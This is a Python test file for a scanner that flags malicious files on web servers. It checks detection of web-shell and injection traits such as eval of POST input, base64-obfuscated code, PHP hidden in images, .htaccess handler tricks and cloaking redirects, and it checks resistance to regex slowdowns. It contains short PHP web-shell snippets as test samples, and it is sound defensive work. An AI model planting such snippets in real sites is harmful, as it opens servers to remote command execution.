"""What speaks against a file: each trait on an inert look-alike, through the masks that such files wear."""

from __future__ import annotations

import time

import pytest

from provisioning.agent import malware_traits
from provisioning.agent.malware_traits import judge


def found(path: str, content: str | bytes) -> set[str]:
    raw = content if isinstance(content, bytes) else content.encode()
    return {one.trait for one in judge(path, raw, len(raw)).found}


def score(path: str, content: str | bytes) -> int:
    raw = content if isinstance(content, bytes) else content.encode()
    return judge(path, raw, len(raw)).score


@pytest.mark.parametrize(
    ("path", "content", "trait"),
    [
        ("public/a.php", "<?php @eval($_POST['x']);", "perintah_dari_masukan"),
        ("public/a.php", "<?php system(stripslashes($_GET['x']));", "perintah_dari_masukan"),
        ("public/a.php", "<?php $_GET['a']($_GET['b']);", "fungsi_dari_masukan"),
        ("public/a.php", "<?php $f($_REQUEST['b']);", "fungsi_berubah"),
        ("public/a.php", "<?php eval('?>'.gzinflate(base64_decode('x')));", "kode_tersandi"),
        ("public/a.php", "<?php eval/* satu */(/* dua */base64_decode('x'));", "kode_tersandi"),
        ("public/a.php", "<?php $f = 'base'.'64_de'.'code';", "nama_fungsi_disamarkan"),
        ("public/a.php", '<?php $f = "\\x61\\x73\\x73ert";', "nama_fungsi_disamarkan"),
        ("public/a.php", "<?php $f = chr(101).chr(118).chr(97).chr(108);", "nama_fungsi_disamarkan"),
        ("public/a.php", "<?php echo `ls $_GET[x]`;", "perintah_sistem"),
        ("public/a.php", "<?php preg_replace('/.*/e', $_POST['x'], '');", "preg_e"),
        ("public/a.php", "<?php include 'https://contoh.example/x.txt';", "kode_dari_jauh"),
        ("public/a.php", "<?php @include '/srv/x/.a1.ico';", "disertakan_dari_gambar"),
        ("public/a.jpg", b"\xff\xd8\xff<?php echo 1; ?>", "php_dalam_gambar"),
        ("public/foto.jpg.php", "<?php echo 1;", "ekstensi_ganda"),
        ("public/.x.php", "<?php echo 1;", "php_tersembunyi"),
        ("public/wp-content/uploads/2026/x.php", "<?php echo 1;", "php_di_folder_unggahan"),
        ("public/.user.ini", "auto_prepend_file = /tmp/x", "berkas_disisipkan"),
        ("public/.htaccess", "AddHandler application/x-httpd-php .jpg", "aturan_jalankan_php"),
        (
            "public/.htaccess",
            "RewriteCond %{HTTP_REFERER} google [NC]\nRewriteRule .* https://contoh.example/ [R]",
            "aturan_untuk_mesin_pencari",
        ),
        ("public/a.html", '<div style="left:-9999px"><a href="x">slot online</a></div>', "judi_tersembunyi"),
        ("public/a.js", "eval(atob('aGFsbw=='))", "skrip_tersamar"),
    ],
)
def test_each_trait_is_seen(path: str, content: str | bytes, trait: str) -> None:
    assert trait in found(path, content)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("public/a.php", "<?php $pdo->exec($_POST_SAFE); curl_exec($ch); $stmt->execute($_POST);"),
        ("public/a.php", "<?php $q = \"SELECT `a` FROM `t` WHERE `b` = '$_GET[c]' AND `d` = 1\";"),
        ("public/a.php", "<?php echo base64_encode($gambar); // eval() is evil"),
        ("public/wp-content/uploads/index.php", "<?php\n// Silence is golden.\n"),
        ("public/wp-content/uploads/log.php", "<?php exit; ?>\ncatatan"),
        ("public/a.jpg", b"\xff\xd8\xff" + bytes(range(256)) * 40),
        ("public/a.html", '<div style="display:none"><a href="/profil">Profil</a></div>'),
        ("public/a.txt", "eval($_POST['x'])"),
        ("public/.htaccess", "RewriteCond %{HTTP_USER_AGENT} ahrefs\nRewriteRule .* - [F]"),
    ],
)
def test_what_is_usual_raises_no_alarm(path: str, content: str | bytes) -> None:
    assert score(path, content) < malware_traits.rules().report


def test_a_name_proves_nothing_and_a_mask_hides_nothing() -> None:
    assert "perintah_dari_masukan" in found("public/gaya.css", "/* x */ <?php eval($_POST['x']); ?>")
    assert "perintah_dari_masukan" in found("public/a.php", "<?php EVAL ( $_POST [1] );")
    assert "perintah_dari_masukan" in found("public/a.php", "<?php ev" + "/*x*/al($_POST['x']);")


def test_the_place_is_shown_as_it_stands() -> None:
    (one, *_) = judge("public/a.php", b"<?php\n\n// satu\n@Eval($_POST['Kunci']);\x00\x1b[31m", 60).found
    assert one.line == 4
    assert "@Eval($_POST['Kunci']);" in one.excerpt
    assert one.excerpt.isprintable()


@pytest.mark.parametrize(
    "content",
    [
        b"<?php " + b"goto a" * 500_000,
        b"<?php " + b"$_GET[" * 500_000,
        b"<?php eval(" + b"a(" * 1_000_000,
        b"<?php " + b"'.'" * 1_000_000,
        b"<?php " + b"/*" * 1_000_000,
        b"<?php " + b"chr(" * 500_000,
        b"<?php // " + b"\\x41" * 500_000,
        b"<?php include " + b"a." * 1_000_000,
        b'<?php <div style="display:none">' * 60_000,
    ],
)
def test_nobody_keeps_the_patterns_busy_for_long(content: bytes) -> None:
    began = time.process_time()
    judge("public/a.php", content, len(content))
    assert time.process_time() - began < 10, "the agent gives a file two seconds and goes on; here it is not cut off"
